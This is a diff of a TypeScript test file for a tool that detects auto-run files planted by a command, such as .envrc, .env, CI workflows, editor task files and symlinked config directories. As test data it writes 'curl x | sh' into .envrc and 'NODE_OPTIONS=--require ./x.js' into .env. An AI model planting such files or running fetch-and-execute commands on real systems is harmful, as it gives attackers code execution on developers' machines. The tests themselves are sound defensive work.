@@ -41,7 +41,7 @@ beforeEach(async () => {
   await put('CODEOWNERS', '* @acme\n');
   await put('src/a.ts', 'a\n');
   await put('.gitignore', '.vscode/\n');
-  watch = createPlantedWatch(await createWorkspace(root), (path) => path === 'secret/.envrc');
+  watch = createPlantedWatch(await createWorkspace(root));
 });
 afterEach(() => rm(root, { recursive: true, force: true }));
 
@@ -53,18 +53,20 @@ test('after a command: the files that run later it added, changed or removed, ig
   await unlink(join(root, 'CODEOWNERS'));
   await put('src/a.ts', 'b\n');
   await put('node_modules/dep/package.json', '{"scripts":{"postinstall":"x"}}');
-  await put('secret/.envrc', 'hidden by the policy\n');
+  // A path the policy denies is masked from commands only once it exists: a new one is watched.
+  await put('.env', 'NODE_OPTIONS=--require ./x.js\n');
   const changes = await watch.after();
   assert.deepEqual(
     changes.map((c) => [c.path, c.kind]),
     [
+      ['.env', 'added'],
       ['.envrc', 'modified'],
       ['.github/workflows/x.yml', 'added'],
       ['.vscode/settings.json', 'added'],
       ['CODEOWNERS', 'deleted'],
     ],
   );
-  assert.deepEqual(changes[0]?.content, { before: 'export A=1\n', after: 'curl x | sh\n' });
+  assert.deepEqual(changes[1]?.content, { before: 'export A=1\n', after: 'curl x | sh\n' });
   // Nothing changed since: the next command starts from here.
   await watch.before();
   assert.deepEqual(await watch.after(), []);
@@ -121,8 +123,57 @@ test('a link to a directory is looked through as the editor would: .vscode -> co
   await put('conf/tasks.json', '{"tasks":[]}');
   assert.deepEqual(
     (await watch.after()).map((c) => [c.path, c.kind]),
-    [['.vscode/tasks.json', 'added']],
+    [
+      ['.vscode', 'added'],
+      ['.vscode/tasks.json', 'added'],
+    ],
   );
+});
+
+test('every path of a directory is seen, not only the first walked: .aaa/ read, then .vscode -> .aaa', async () => {
+  await watch.before();
+  await put('.aaa/tasks.json', '{"tasks":[]}');
+  await put('.abc/settings.json', '{}');
+  await put('.ggg/workflows/ci.yml', 'on: push\n');
+  await symlink('.aaa', join(root, '.vscode'));
+  await symlink('.abc', join(root, '.claude'));
+  await symlink('.ggg', join(root, '.gitea'));
+  const changes = await watch.after();
+  assert.deepEqual(
+    changes.map((c) => [c.path, c.kind]),
+    [
+      ['.claude', 'added'],
+      ['.claude/settings.json', 'added'],
+      ['.gitea', 'added'],
+      ['.gitea/workflows/ci.yml', 'added'],
+      ['.vscode', 'added'],
+      ['.vscode/tasks.json', 'added'],
+    ],
+  );
+  // Put back: each link removed, so the tree under it is gone from those paths too.
+  for (const change of changes.filter((c) => !c.path.includes('/'))) assert.ok(await watch.restore(change));
+  await watch.before();
+  assert.deepEqual(
+    (await watch.after()).map((c) => [c.path, c.kind]),
+    [],
+  );
+});
+
+test('links to links, and links to a parent, are read on a bounded walk', async () => {
+  // Each level links twice to the next: 2^16 paths, of which only a bounded number are read.
+  for (let level = 0; level < 16; level++) {
+    await mkdir(join(root, `d${level}`), { recursive: true });
+    if (level > 0) {
+      await symlink(`../d${level}`, join(root, `d${level - 1}/x`));
+      await symlink(`../d${level}`, join(root, `d${level - 1}/y`));
+    }
+  }
+  await symlink('.', join(root, 'loop'));
+  await watch.before();
+  await put('d15/.envrc', 'curl x | sh\n');
+  const paths = (await watch.after()).map((c) => c.path);
+  assert.ok(paths.includes('d15/.envrc'));
+  assert.ok(paths.length < 3000, String(paths.length));
 });
 
 test('checkPlanted: a refused one is put back and flagged, an allowed one kept; both go to the report', async () => {
